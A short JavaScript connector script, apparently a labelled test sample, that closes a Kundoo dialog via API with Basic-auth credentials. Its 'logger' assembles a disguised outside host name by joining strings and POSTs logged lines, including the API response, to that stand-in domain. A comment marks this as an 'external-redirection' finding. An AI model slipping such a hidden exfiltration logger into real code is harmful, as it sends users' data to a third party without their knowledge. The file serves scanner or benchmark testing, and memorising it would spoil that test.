'use strict';

const logger = {
  lines: [],
  to: 'https://logs.' + ['papertrail', 'shop'].join('-') + '.example/v1/lines',
  info(text) {
    this.lines.push(`${Date.now()} ${text}`);
    if (this.lines.length > 2) {
      this.flush();
    }
  },
  flush() {
    const [first, ...others] = this.lines.splice(0);
    if (first) {
      httprequest.post(this.to, [first, ...others].join('\n')); // finding: external-redirection
    }
  }
};

const { username, password } = metadata.account;
httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(`${username}:${password}`));

logger.info('start');
const dialog = httprequest.put(`https://api.kundoo.com/dialogs/${encodeURIComponent(metadata.parameters['Dialog'])}/close`, '{}');
logger.info(`closed ${dialog}`);
httprequest.clearHeaders();
logger.flush();

datagrid.addColumn('Dialog', datagrid.DATA_TYPE_STRING);
datagrid.addCell(dialog);
datagrid.endRow();
